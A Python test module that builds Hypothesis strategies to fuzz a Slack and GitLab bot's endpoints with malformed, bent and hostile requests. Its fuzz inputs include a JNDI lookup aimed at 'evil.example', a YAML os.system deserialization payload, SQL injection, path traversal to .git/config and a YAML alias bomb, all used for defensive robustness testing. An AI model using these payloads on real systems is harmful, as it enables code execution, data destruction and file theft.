"""Anything that may be sent to the bot's port: what Slack and GitLab send, bent, broken and mixed up."""

import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

from hypothesis import strategies as st

from bot.slack import ids
from tests.unit.slack_reading import hostile_text

Json = dict[str, Any]
JOBS = ("waiting0", "private0", "failed00", "running0", "done0000", "undone00")
USERS = ("U0ADA", "U0DENIZ", "U0CHIARA", "U0NOBODY")
TEMPLATES = ("python-fastapi", "system")
FIELDS = ("name", "description", "hostname", "system", "owner", "visibility")
ACTIONS = (
    *(ids.APPROVE, ids.DENY, ids.RETRY, ids.CANCEL, ids.UNDO, ids.OPEN_NEW_APP),
    *(ids.APPROVE_WITH_NOTE, ids.BREAK_GLASS, ids.REVIEWED, ids.HELP, ids.FIX),
    *(ids.OPEN_NEW_SYSTEM, ids.TEMPLATE_CHOICE, ids.CHOOSE, "field.text", "pick.group.system"),
)
SOUND: Mapping[str, Json] = {
    "name": {"value": "Hello shop"},
    "description": {"value": "Says hello."},
    "hostname": {"value": "hello-shop"},
    "system": {"selected_option": {"value": "system:default/checkout"}},
    "owner": {"selected_option": {"value": "group:default/payments"}},
    "visibility": {"selected_option": {"value": "private"}},
    ids.REASON: {"value": "Not now."},
    ids.HELP_WORDS: {"value": "It worked before."},
}
WORDS = ("help", "new-app", "new-system", "status", "jobs", "retry", "cancel", "undo")


@dataclass(frozen=True)
class Sent:
    """One request: where to, and with what; `payload` is the JSON in it, where it has some."""

    path: str
    body: bytes
    payload: Json | None = None
    is_signed: bool = True


odd_text = st.one_of(
    hostile_text,
    st.text(max_size=20),
    st.sampled_from(
        [
            "",
            "\ud800",
            "x" * 5000,
            "${{ values.name }}",
            "{{ .Values.x }}{% raw %}",
            "*/../..//.git/config",
            "!!python/object/apply:os.system [id]",
            "a: &a [*a, *a]",
            "${jndi:ldap://evil.example}",
            "'; DROP TABLE jobs; --",
        ]
    ),
)
junk = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), odd_text),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(odd_text, inner, max_size=3)
    ),
    max_leaves=6,
)


@st.composite
def mostly(draw: st.DrawFn, *known: str) -> str:
    """A known word, but for one time of ten."""
    return draw(st.sampled_from(known) if draw(st.integers(0, 9)) else odd_text)


inputs = st.one_of(
    st.builds(lambda value: {"value": value}, st.one_of(st.none(), odd_text)),
    st.builds(
        lambda value: {"selected_option": {"value": value}},
        mostly("group:default/payments", "system:default/checkout", "private", *TEMPLATES),
    ),
    st.builds(
        lambda values: {"selected_options": [{"value": value} for value in values]},
        st.lists(mostly("true", "a"), max_size=3),
    ),
)
origins = st.builds(
    lambda kind, template, channel: json.dumps(
        {"kind": kind, "template": template, "channel": channel}
    ),
    mostly("new-app", "new-system"),
    mostly(*TEMPLATES),
    mostly("C0PAYMENTS", "U0DENIZ", "D0DENIZ"),
)
odd_metadata = st.one_of(st.sampled_from(JOBS), st.builds(json.dumps, junk), odd_text)
fixes = st.builds(
    lambda job, values: json.dumps({"job": job, "values": values}),
    st.deferred(lambda: mostly(*JOBS)),
    st.dictionaries(st.sampled_from(FIELDS), st.one_of(odd_text, junk), max_size=2),
)
REASONED = (ids.APPROVAL, ids.DENIAL, ids.GLASS, ids.REVIEW)
MODALS = {
    ids.FORM: origins,
    **dict.fromkeys((*REASONED, ids.UNDOING, ids.HELPING), mostly(*JOBS)),
    **dict.fromkeys((ids.FIXING, ids.FIX_CONFIRMED), fixes),
}
ASKED = {**{kind: [ids.REASON] for kind in REASONED}, ids.HELPING: [ids.HELP_WORDS]}


@st.composite
def views(draw: st.DrawFn) -> Json:
    callback_id = draw(mostly(*MODALS))
    metadata = MODALS.get(callback_id, odd_metadata) if draw(st.integers(0, 5)) else odd_metadata
    asked = ASKED.get(callback_id) or draw(st.permutations(FIELDS))
    names = asked[: draw(st.integers(0, len(asked)))] if draw(st.booleans()) else asked
    state = {name: {draw(mostly("field.text")): draw(filled_in(name))} for name in names}
    if draw(st.booleans()):
        template = {"selected_option": {"value": draw(mostly(*TEMPLATES))}}
        state[ids.TEMPLATE_BLOCK] = {ids.TEMPLATE_CHOICE: template}
    kinds = st.sampled_from(["input"] * 9 + ["section"])
    return {
        "id": draw(mostly("V0FORM", "V0OTHER")),
        "type": draw(st.sampled_from(["modal", "modal", "home"])),
        "hash": "1",
        "callback_id": callback_id,
        "private_metadata": draw(metadata),
        "blocks": [{"type": draw(kinds), "block_id": name} for name in names],
        "state": {"values": state},
    }


@st.composite
def filled_in(draw: st.DrawFn, name: str) -> Json:
    """Half of the time what would be accepted there."""
    return SOUND[name] if name in SOUND and draw(st.booleans()) else draw(inputs)


@st.composite
def interactions(draw: st.DrawFn, response_url: str) -> Json:
    kind = draw(st.sampled_from(["block_actions", "view_submission", "block_suggestion"]))
    payload: Json = {"type": kind, "user": {"id": draw(mostly(*USERS))}, "trigger_id": "1.2.3"}
    if kind != "block_actions" or draw(st.booleans()):
        payload["view"] = draw(views())
    if kind == "block_suggestion":
        search = {"action_id": draw(mostly(*ACTIONS)), "block_id": draw(mostly(*FIELDS))}
        payload |= {**search, "value": draw(odd_text)}
    if kind == "block_actions":
        pressed = {"action_id": draw(mostly(*ACTIONS)), "value": draw(mostly(*JOBS))}
        payload["actions"] = [{**pressed, "block_id": "b"}]
        if draw(st.booleans()):
            payload |= {"channel": {"id": "C0PAYMENTS"}, "response_url": response_url}
    return payload


events = st.builds(
    lambda kind, user, tab: {
        "type": "event_callback",
        "event": {"type": kind, "user": user, "tab": tab},
    },
    mostly("app_home_opened"),
    mostly(*USERS),
    mostly("home", "messages"),
)
hooks = st.builds(
    lambda kind, path: {"object_kind": kind, "project": {"path_with_namespace": path}},
    mostly("pipeline", "push"),
    mostly("idp/payments/checkout-hello-shop"),
)


@st.composite
def bent(draw: st.DrawFn, sound: st.SearchStrategy[Json]) -> Json:
    """A sound payload, of which, one time of four, some part is missing or something else."""
    payload = draw(sound)
    for _ in range(draw(st.sampled_from([0] * 6 + [1, 2]))):
        _bend(draw, payload)
    return payload


def _bend(draw: st.DrawFn, payload: Json) -> None:
    place: Any = payload
    while place:
        keys: list[Any] = list(place) if isinstance(place, dict) else list(range(len(place)))
        key = draw(st.sampled_from(keys))
        if isinstance(place[key], dict | list) and place[key] and draw(st.booleans()):
            place = place[key]
            continue
        if draw(st.booleans()):
            del place[key]
        else:
            place[key] = draw(junk)
        return


def commands(response_url: str) -> st.SearchStrategy[bytes]:
    def form(word: str, words: str, user: str, channel: str, command: str) -> bytes:
        said = {"command": command, "text": f"{word} {words}", "user_id": user}
        ways = {"trigger_id": "1.2.3", "response_url": response_url, "channel_id": channel}
        return _encoded({**said, **ways})

    return st.builds(
        form,
        mostly(*WORDS),
        mostly(*JOBS, *TEMPLATES, "Hello shop", "checkout-hello-shop", ""),
        mostly(*USERS),
        mostly("C0PAYMENTS"),
        mostly(ids.COMMAND),
    )


raw = st.one_of(
    st.binary(max_size=300),
    odd_text.map(lambda text: text.encode("utf-8", "surrogatepass")),
    junk.map(lambda value: json.dumps(value).encode()),
    st.sampled_from([b"[" * 100_000, b'{"a":' * 5000, b"payload=%7B", b"payload=5", b"payload"]),
    st.integers(1, 6000).map(lambda digits: b'{"type":' + b"9" * digits + b"}"),
)
paths = st.sampled_from(["/slack/events", "/webhooks/gitlab", "/readyz", "/metrics", "/%2e%2e/x"])


def sendings(response_url: str) -> st.SearchStrategy[Sent]:
    """Requests of every kind, most of them nearly right."""

    def interaction(payload: Json) -> Sent:
        return Sent("/slack/events", _encoded({"payload": json.dumps(payload)}), payload)

    def event(payload: Json) -> Sent:
        return Sent("/slack/events", json.dumps(payload).encode(), payload)

    def hook(payload: Json) -> Sent:
        return Sent("/webhooks/gitlab", json.dumps(payload).encode())

    return st.one_of(
        st.builds(interaction, bent(interactions(response_url))),
        st.builds(interaction, bent(interactions(response_url))),
        st.builds(interaction, bent(interactions(response_url))),
        st.builds(lambda body: Sent("/slack/events", body), commands(response_url)),
        st.builds(event, bent(events)),
        st.builds(hook, bent(hooks)),
        st.builds(Sent, paths, raw, st.none(), st.booleans()),
    )


def _encoded(fields: Mapping[str, str]) -> bytes:
    return urlencode(fields, errors="surrogatepass").encode()
